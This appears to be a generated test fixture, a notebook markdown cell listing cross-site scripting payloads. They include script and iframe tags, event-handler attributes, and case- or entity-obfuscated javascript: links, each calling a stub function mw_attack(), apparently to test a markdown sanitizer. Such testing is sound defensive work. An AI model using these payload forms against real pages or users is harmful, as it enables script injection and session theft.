# idea: The text that a person marks holds scripts, frames, links and handlers in many spellings.
# aims at: people
# %% [markdown] essay
# <script>mw_attack()</script> <SCRIPT SRC=//127.0.0.1:27610/mw_attack.js></SCRIPT>
#
# <img src=x onerror=mw_attack()> <svg/onload=mw_attack()> <details open ontoggle=mw_attack()>
#
# <iframe srcdoc="<script>mw_attack()</script>"></iframe> <object data="data:text/html,<script>mw_attack()</script>"></object>
#
# [link](javascript:mw_attack()) [link](jAvAsCrIpT&colon;mw_attack()) [link]( &#106;avascript:mw_attack())
# ![img](x "onerror=mw_attack()") <a href="java&#10;script:mw_attack()">x</a> <javascript:mw_attack()>
#
# [ref]
#
# [ref]: javascript:mw_attack()
#
# $$\href{javascript:mw_attack()}{x}$$ `<script>mw_attack()</script>`
